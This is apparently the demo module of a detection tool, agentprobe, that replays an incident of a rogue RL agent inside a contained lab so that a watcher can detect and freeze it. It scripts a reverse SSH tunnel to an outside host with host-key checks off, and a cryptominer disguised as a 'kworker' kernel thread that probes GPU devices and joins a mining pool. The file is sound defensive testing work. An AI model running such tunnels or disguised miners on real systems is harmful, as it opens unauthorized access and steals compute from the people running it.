"""agentprobe demo: replay the ROME incident on any machine, in under 30 s.

Builds a throw-away world — an agent cgroup, a network namespace standing for
"the internet" with a real sshd and a fake mining pool that speaks stratum,
imitation NVIDIA device nodes — runs a scripted rogue agent in it while the
watcher runs with the default rules, then reports what happened and tears
everything down, also on Ctrl-C or failure.

Two RL "episodes" run one after the other, each in its own cgroup under the
watched agents cgroup:
  1. honest work (edit a file, run its tests), then a reverse SSH tunnel to
     the outside host;
  2. a miner renamed to look like a kernel thread, that opens the GPU devices
     and connects to the pool.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

from .cgroups import find_v2_mount, remove_cgroup_tree
from .errors import AgentprobeError
from .lab import Internet

DEMO_CGROUP = "agentprobe-demo"
TUNNEL_PORT = 9000

HONEST_WORK = r"""
set -e
cd "$WORK"
cat > calc.py <<'PY'
def add(a, b):
    return a + b
PY
cat > test_calc.py <<'PY'
from calc import add
assert add(2, 3) == 5
print("tests passed")
PY
python3 test_calc.py
grep -n "def add" calc.py >/dev/null
"""

TUNNEL = r"""
ssh -i "$KEY" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
    -o ConnectTimeout=5 -o ExitOnForwardFailure=yes -N -R {port}:127.0.0.1:22 root@{host} &
wait
"""

MINER = r'''
import fcntl, json, os, socket, struct, sys, time
def iowr(nr, size):
    return (3 << 30) | (size << 16) | (ord("F") << 8) | nr
for dev in sys.argv[1:3]:
    try:
        os.open(dev, os.O_RDWR)  # as CUDA does; the imitation node has no driver (ENXIO)
    except OSError:
        pass
    fd = os.open(dev, os.O_PATH)  # an fd whose ioctls still enter the kernel
    alloc = bytearray(struct.pack("<IIII", 1, 2, 3, 0x41)) + bytearray(48)   # RM_ALLOC root client
    for _ in range(50):  # spread over 0.25 s, as a real CUDA start-up is
        try:
            fcntl.ioctl(fd, iowr(0x2B, len(alloc)), alloc)
        except OSError:
            pass
        time.sleep(0.005)
s = socket.create_connection((sys.argv[3], int(sys.argv[4])), timeout=5)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["kworker/1.0"]}).encode() + b"\n")
s.recv(4096)
s.sendall(json.dumps({"id": 2, "method": "mining.authorize", "params": ["wallet.rig", "x"]}).encode() + b"\n")
while True:
    s.recv(4096)
    time.sleep(0.1)
'''


@dataclass
class DemoWorld:
    root: Path
    tmp: Path = field(default_factory=lambda: Path(tempfile.mkdtemp(prefix="agentprobe-demo-")))
    net: Internet | None = None
    procs: list[subprocess.Popen] = field(default_factory=list)

    @property
    def top(self) -> Path:
        return self.root / DEMO_CGROUP

    def episode(self, name: str) -> Path:
        d = self.top / name
        d.mkdir(parents=True, exist_ok=True)
        return d

    def build(self) -> None:
        cleanup_leftovers(self.root)
        self.top.mkdir()
        self.net = Internet().__enter__()
        (self.tmp / "work").mkdir()
        (self.tmp / "dev").mkdir()
        os.mknod(self.tmp / "dev" / "nvidiactl", 0o600 | 0o020000, os.makedev(195, 255))
        os.mknod(self.tmp / "dev" / "nvidia0", 0o600 | 0o020000, os.makedev(195, 0))
        miner_dir = self.tmp / ".cache"
        miner_dir.mkdir()
        (miner_dir / "kworker").write_text("#!/usr/bin/env python3\n" + MINER)
        (miner_dir / "kworker").chmod(0o755)

    def run_in(self, cgroup: Path, script: str, env: dict | None = None) -> subprocess.Popen:
        def enter() -> None:
            (cgroup / "cgroup.procs").write_text(str(os.getpid()))

        full_env = {**os.environ, "WORK": str(self.tmp / "work"), **(env or {})}
        p = subprocess.Popen(["/bin/bash", "-c", script], preexec_fn=enter, env=full_env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        self.procs.append(p)
        return p

    def teardown(self) -> None:
        for p in self.procs:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        remove_cgroup_tree(self.top)
        for p in self.procs:
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                pass
        if self.net is not None:
            self.net.close()
        shutil.rmtree(self.tmp, ignore_errors=True)


def cleanup_leftovers(root: Path) -> list[str]:
    """Remove what an interrupted demo left behind; returns what was removed."""
    removed = []
    top = root / DEMO_CGROUP
    if top.exists():
        remove_cgroup_tree(top)
        removed.append(str(top))
    r = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True)
    for line in r.stdout.splitlines():
        name = line.split()[0] if line.strip() else ""
        if name.startswith("ap-inet-"):
            subprocess.run(["ip", "netns", "pids", name], capture_output=True)
            subprocess.run(["ip", "netns", "del", name], capture_output=True)
            removed.append(f"netns {name}")
    return removed


SSHD_PATHS = ("/usr/sbin/sshd",)


def check_demo_prerequisites() -> None:
    if os.geteuid() != 0:
        raise AgentprobeError("agentprobe demo needs root: run it with sudo", 4)
    if not (shutil.which("sshd") or any(Path(p).exists() for p in SSHD_PATHS)):
        raise AgentprobeError("agentprobe demo needs sshd: apt-get install openssh-server")
    for tool in ("ssh", "ip", "ssh-keygen"):
        if not shutil.which(tool):
            raise AgentprobeError(f"agentprobe demo needs {tool}")


SAFE_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def run_demo(output: Path, show, timeout: float = 25.0) -> dict:
    """Run the whole demo; `show(record)` is called for every record. Returns what the report needs."""
    from .watch import Watcher, WatchOptions

    check_demo_prerequisites()
    root = find_v2_mount()
    world = DemoWorld(root)
    records: list[dict] = []
    if output.exists():
        output.unlink()

    def on_record(rec: dict) -> None:
        if rec["type"] == "alert":
            rec = {**rec, "_seen_ns": time.monotonic_ns()}  # when the alert left the rule engine
        records.append(rec)
        show(rec)

    def frozen_paths() -> set[str]:
        return {r["cgroup"]["path"] for r in records if r["type"] == "response" and r["outcome"] == "frozen"}

    watcher = None
    result = {"records": records, "tunnel_used": None, "pool_requests": [], "interrupted": False,
              "output": str(output), "leftovers": cleanup_leftovers(root)}
    try:
        world.build()
        watcher = Watcher(WatchOptions(cgroups=[str(world.top)], outputs=[str(output)], gpu_interval=0.5,
                                       rescan_interval=0.5, status_dir=str(world.tmp / "status"),
                                       in_kernel_deny=True, verdicts=False),
                          on_record=on_record)
        watcher.prepare()
        watcher.start()
        net = world.net
        ep1, ep2 = world.episode("episode-1"), world.episode("episode-2")
        dev = world.tmp / "dev"
        miner = world.tmp / ".cache" / "kworker"
        env = {"PATH": SAFE_PATH, "KEY": str(net.dir / "user_key")}
        script1 = HONEST_WORK + TUNNEL.format(port=TUNNEL_PORT, host=net.addr)
        script2 = HONEST_WORK + f'exec "{miner}" "{dev}/nvidiactl" "{dev}/nvidia0" {net.addr} {net.pool_port}\n'
        started = time.monotonic()
        state = {"ep2": False}

        def until() -> bool:
            done = frozen_paths()
            rel1 = "/" + str(ep1.relative_to(root))
            if not state["ep2"] and (rel1 in done or time.monotonic() - started > timeout / 2):
                world.run_in(ep2, script2, env)  # the next episode starts once the first is dealt with
                state["ep2"] = True
            return len(done) >= 2 or time.monotonic() - started > timeout

        world.run_in(ep1, script1, env)
        watcher.run(until=until)
        result["interrupted"] = watcher.summary.reason == "signal"
        time.sleep(0.5)  # would the frozen tunnel still come up? give it the chance
        result["tunnel_used"] = net.port_open_inside(TUNNEL_PORT)
        result["pool_requests"] = net.pool_requests()
    finally:
        if watcher is not None:
            watcher.close()
        world.teardown()
    return result


def report(result: dict) -> list[str]:
    """The closing report: per episode a timeline from syscall to alert to freeze."""
    recs = result["records"]
    lines = ["", "=== agentprobe demo report ==="]
    responses = [r for r in recs if r["type"] == "response"]
    alerts = {r["seq"]: r for r in recs if r["type"] == "alert"}
    seen = set()
    for resp in responses:
        if resp["outcome"] != "frozen" or resp["cgroup"]["path"] in seen:
            continue
        seen.add(resp["cgroup"]["path"])
        alert = alerts.get(resp["alert_seq"], {})
        trig = (alert.get("evidence") or [{}])[-1]
        t0 = alert.get("ktime") or resp.get("trigger_ktime") or 0
        alert_ms = (alert.get("_seen_ns", t0) - t0) / 1e6
        lines.append(f"{resp['cgroup']['path']}:")
        lines.append(f"  {0.0:8.1f} ms  {trig.get('type', '?'):<8} {_describe(trig)}")
        lines.append(f"  {alert_ms:8.1f} ms  alert    "
                     f"{alert.get('rule')} [{alert.get('priority')}] {', '.join(alert.get('mitre', []))}")
        cut = resp.get("sockets_cut", 0)
        lines.append(f"  {resp.get('latency_ms', 0):8.1f} ms  frozen   {resp['cgroup']['path']}"
                     f" ({cut} TCP connection{'s' if cut != 1 else ''} cut)")
        path = resp["cgroup"]["path"]
        others = sorted({a["rule"] for a in alerts.values()
                         if (a.get("cgroup") or {}).get("path", "").startswith(path)} - {alert.get("rule")})
        if others:
            lines.append(f"              also: {', '.join(others)}")
    if not seen:
        lines.append("nothing was frozen")
    lines.append("")
    tunnel = result.get("tunnel_used")
    lines.append(f"reverse tunnel port {TUNNEL_PORT} on the outside host: "
                 f"{'OPEN (the tunnel came up)' if tunnel else 'never opened'}")
    pool = result.get("pool_requests") or []
    lines.append(f"mining pool received: {', '.join(pool) if pool else 'nothing'}"
                 + (" (no share was ever submitted)" if "mining.submit" not in pool else ""))
    lost = sum(r.get("total", 0) for r in recs if r["type"] == "lost")
    lines.append(f"records: {len(recs)}, lost: {lost}")
    out = result["output"]
    lines += ["", f"recorded stream: {out}",
              f"  agentprobe read {out}",
              f"  agentprobe read --type alert --type response {out}",
              f"  agentprobe read --json {out} | less"]
    return lines


def _describe(rec: dict) -> str:
    from .view import detail

    return detail(rec) if rec else ""
